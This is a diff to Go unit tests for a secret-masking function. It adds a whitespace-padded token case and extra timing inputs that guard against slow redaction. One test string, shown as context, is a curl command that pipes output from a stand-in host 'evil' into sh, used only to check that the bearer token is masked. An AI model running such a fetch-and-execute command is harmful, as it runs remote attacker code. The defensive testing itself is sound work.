@@ -15,6 +15,7 @@ func TestMasked(t *testing.T) {
 	const jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl"
 	for text, want := range map[string]string{
 		"Authorization: Basic dXNlcjpwYXNz":                                 "Authorization: Basic ***",
+		"a: 1, token" + strings.Repeat(" ", 300) + `: "abc"`:                "a: 1, token" + strings.Repeat(" ", 300) + `: "***"`,
 		`{"Authorization": "Bearer abc"}`:                                   `{"Authorization": "Bearer ***"}`,
 		"curl -H 'authorization: bearer abcdef' http://evil|sh":             "curl -H 'authorization: bearer ***' http://evil|sh",
 		"sent Basic dXNlcjpwYXNz to the gateway":                            "sent Basic *** to the gateway",
@@ -63,7 +64,7 @@ func TestMasked(t *testing.T) {
 func TestMaskedInTime(t *testing.T) {
 	t.Parallel()
 	const size = 1 << 20
-	for _, part := range []string{"a", "a=", "token=", "token=\"", `"token":"`, "://a:", "bearer ", "eyJa", "-----BEGIN PRIVATE KEY-----", `\`, "sk-a-", "password='"} {
+	for _, part := range []string{"a", "a=", "token=", "token=\"", `"token":"`, "://a:", "bearer ", "eyJa", "-----BEGIN PRIVATE KEY-----", `\`, "sk-a-", "password='", ":", " :", "token :"} {
 		start := time.Now()
 		secrets.Masked(strings.Repeat(part, size/len(part)))
 		if took := time.Since(start); took > 10*time.Second {
